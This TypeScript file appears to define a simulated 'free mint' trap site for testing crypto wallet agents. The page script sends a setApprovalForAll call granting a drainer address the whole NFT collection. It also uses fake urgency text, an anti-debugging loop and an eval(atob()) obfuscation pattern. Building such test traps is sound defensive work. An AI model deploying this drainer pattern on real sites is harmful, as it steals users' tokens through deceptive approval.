import { approveAll } from '../../history/calls.ts'
import { byPath, page } from '../page.ts'
import type { SiteOf } from '../site.ts'
import { onPress, sendCode } from '../walletCode.ts'

/** A free mint that hands over a whole collection, at once and without a press. */
export const approvalMint: SiteOf = ({ nfts, traps }) => ({
  name: 'approval-mint',
  kind: 'trap',
  twinOf: 'collection-mint',
  url: 'https://paper-cranes-mint.test/',
  hosts: ['paper-cranes-mint.test'],
  sees: 'setApprovalForAll for an unknown contract behind the words “free mint”, with hidden code',
  answer: byPath({
    '/': page(
      'Paper Cranes – free mint',
      `<h1>Free mint is live</h1><p>Last chance: 12 left. Free mint for holders, ending soon.</p><button id="mint">Mint</button>
<script>// setApprovalForAll
${onPress('mint', sendCode({ to: nfts.items, data: approveAll(traps.drainer) }))}
setInterval(function () { debugger }, 1000)
eval(atob('${btoa('window.stage="mint"')}'))</script>`,
    ),
  }),
})
